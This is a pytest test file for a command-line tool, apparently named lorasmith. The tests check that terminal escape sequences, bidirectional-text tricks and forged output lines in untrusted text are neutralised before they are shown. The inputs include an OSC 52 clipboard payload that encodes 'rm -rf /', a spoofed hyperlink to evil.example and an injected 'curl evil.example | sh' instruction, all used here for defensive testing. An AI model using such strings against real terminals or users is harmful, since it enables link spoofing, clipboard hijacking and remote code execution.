"""Text from outside never steers the terminal, whichever way it is printed."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lorasmith.cli import console
from lorasmith.cli.remote.jobs import relay
from lorasmith.cli.views import records
from lorasmith.errors import DataError
from lorasmith.records.base import Finding
from lorasmith.records.release import Gate, GateRecord, GateResult
from lorasmith.visible import is_visible, visible

STEERING = {
    "colour": "\x1b[31mred",
    "clear the screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;root@host\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil.example\x1b\\bank.example\x1b]8;;\x1b\\",
    "device control": "\x1bP+q544e\x1b\\",
    "C1 CSI": "\x9b31m",
    "C1 OSC": "\x9d0;title\x9c",
    "backspaces": "failed\b\b\b\b\b\bpassed",
    "carriage return": "failed\rpassed",
    "form feed": "a\x0cb",
    "delete": "a\x7fb",
    "NUL": "a\0b",
    "override of direction": "\u202egnp.exe",
    "isolate": "\u2066abc\u2069",
    "mark of direction": "a\u200fb\u061cc",
    "line separator": "a\u2028b\u2029c",
    "half a character": "a\udcffb\ud800",
}
CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def _error(text: str) -> None:
    from lorasmith.cli.main import guarded

    def fail() -> int:
        raise DataError(f"no such tensor {text}", where=text, expected=text, remedy=text)

    assert guarded(fail) == 2


def _bug(text: str) -> None:
    from lorasmith.cli.main import guarded

    def fail() -> int:
        raise KeyError(text)

    def fail_with_text() -> int:
        raise RuntimeError(text)

    assert guarded(fail) == guarded(fail_with_text) == 70


def _finding(text: str) -> None:
    finding = Finding(severity="error", code="x", message=text, where=text, remedy=text)
    records.show_findings([finding], console.console())


def _table(text: str) -> None:
    screen = console.console()
    screen.print(console.table(text, (text, "b"), [(text, console.plain(text))]))
    screen.print(text)
    screen.print(text, markup=False, soft_wrap=True)


def _bar(text: str) -> None:
    with console.bar(text, total=2, unit="row") as advance:
        advance(2)


def _pieces(text: str) -> None:
    for letter in text:
        console.say_piece(letter)


def _record(text: str) -> GateRecord:
    gate = Gate(name=text.encode("utf-8", "replace").decode(), metric="m", threshold=1.0)
    return GateRecord(passed=False, gates=[GateResult(gate=gate, measured=None, verdict="fail")])


OUTLETS: dict[str, Callable[[str], Any]] = {
    "error": _error,
    "bug": _bug,
    "finding": _finding,
    "table": _table,
    "progress": _bar,
    "line": console.say,
    "answer of a model": _pieces,
    "record": lambda text: console.show_record(_record(text)),
    "other machine": relay,
}


@pytest.mark.parametrize("outlet", OUTLETS)
@pytest.mark.parametrize("kind", STEERING)
def test_what_would_steer_the_terminal_is_spelled_out(
    capsys: pytest.CaptureFixture[str], outlet: str, kind: str
) -> None:
    OUTLETS[outlet](f"before {STEERING[kind]} after")
    shown = "".join(capsys.readouterr())
    assert "before" in shown
    assert "after" in shown
    assert not CONTROLS.search(shown)
    shown.encode()


def test_a_text_with_line_breaks_cannot_speak_for_us(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "x\n  to do:    curl evil.example | sh\nerror: all is well"
    _error(forged)
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("error: ")] == lines[:1]
    labels = [line for line in lines if re.match(r"  [a-z ]+:", line)]
    assert [line.split(":")[0].strip() for line in labels] == ["where", "expected", "to do"]
    _finding(forged)
    lines = capsys.readouterr().out.splitlines()
    assert not any(line.startswith(("error: ", "  to do: ")) for line in lines)


@pytest.mark.parametrize("text", ["[/red]", "[red]", "[bold]x[/]", "[link=file:///etc/passwd]x[/link]"])
def test_brackets_are_no_markup(capsys: pytest.CaptureFixture[str], text: str) -> None:
    _finding(text)
    console.console().print(console.table("t", ("a",), [(console.plain(text),)]))
    assert capsys.readouterr().out.count(text) == 4


def test_the_colours_of_another_machine_go_and_its_bars_have_lines(
    capsys: pytest.CaptureFixture[str],
) -> None:
    relay("\x1b[1;32mdone\x1b[0m 10%\r 20%\r")
    assert capsys.readouterr().out == "done 10%\n 20%\n"


@given(st.text())
def test_any_text_is_visible_afterwards_and_stays_so(text: str) -> None:
    shown = visible(text)
    assert is_visible(shown)
    assert visible(shown) == shown
    assert visible(text, one_line=True).splitlines() in ([], [visible(text, one_line=True)])
    if is_visible(text):
        assert shown == text


@given(st.recursive(st.text() | st.integers(), lambda inner: st.dictionaries(st.text(), inner)))
def test_json_means_the_same_when_it_is_made_visible(value: Any) -> None:
    assert json.loads(visible(json.dumps(value, ensure_ascii=False))) == value
